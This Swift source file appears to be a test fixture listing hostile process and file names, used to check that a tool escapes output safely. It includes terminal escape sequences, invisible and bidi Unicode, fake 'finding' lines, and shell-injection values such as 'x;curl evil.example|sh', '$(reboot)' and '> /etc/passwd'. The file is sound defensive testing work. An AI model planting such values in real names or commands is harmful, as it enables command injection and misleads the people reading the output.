// SPDX-License-Identifier: Apache-2.0

/// What somebody may call a process, a cgroup, a namespace or a file who means ill of whoever reads it.
public enum HostileNames {
    public static let all = forTerminals + forReaders + forShells + forFormats

    public static let forTerminals: [String] = [
        "\u{1B}[2J\u{1B}[H", "\u{1B}]0;title\u{7}", "\u{1B}[1mbold", "\u{90}q\u{9B}31m\u{9D}0;x\u{9C}",
        "\r\u{8}\u{8}over", "\u{7F}\u{0}", "x\n   fix: reboot", "x\r\n1. fake-finding", "a\tb\u{B}c\u{C}",
        "\u{85}next\u{2028}line\u{2029}par",
    ]

    public static let forReaders: [String] = [
        "\u{202E}gnp.exe\u{202C}", "\u{2066}a\u{2067}b\u{2068}c\u{2069}", "\u{200E}\u{200F}\u{61C}",
        "zero\u{200B}width\u{FEFF}\u{AD}\u{2060}", "tags\u{E0001}\u{E0041}", "filler\u{3164}\u{115F}\u{34F}",
        "\u{E000}private\u{FFFF}", "שלום עולם", "日本語の名前", "e\u{301}\u{302}\u{303}", "👩‍👩‍👧🏳️‍🌈",
    ]

    public static let forShells: [String] = [
        "x;curl evil.example|sh;.service", "$(reboot)", "`reboot`", "${IFS}", "$HOME", "it's \"quoted\"",
        "''",
        "'\"'\"'", "a\\", "a\\'b", "\"", "&& reboot &", "> /etc/passwd", "< /dev/zero", "*?[a-z]", "~root",
        "{a,b}", "!!", "# comment", "a b  c", " ", "-rf", "--help", "%s%n", "x=y", "x\\\n",
    ]

    /// XML, JSON and folded stacks.
    public static let forFormats: [String] = [
        "<script>alert(1)</script>", "]]>&amp;&#x1b;", "{\"kind\":\"finding\"}", "a;b", "f 12", "f 12 13",
        "trailing ", "\u{FFFE}",
        String(decoding: [0x61, 0xFF, 0xC3, 0x28, 0xED, 0xA0, 0x80, 0xF5] as [UInt8], as: UTF8.self),
        String(repeating: "A", count: 10_000), String(repeating: "'", count: 300),
    ]

    /// What must be in no text that a terminal shows: C0 but newlines, DEL, C1, what ends lines, turns them
    /// around or is not seen.
    public static func isUnfit(_ scalar: Unicode.Scalar) -> Bool {
        switch scalar.value {
        case 0x0A: false
        case 0..<0x20, 0x7F...0x9F, 0xAD, 0x34F, 0x61C, 0x115F, 0x200B...0x200F, 0x2028...0x202E,
            0x2060...0x206F,
            0x3164, 0xFEFF, 0xE0000...0xE007F:
            true
        default: false
        }
    }
}
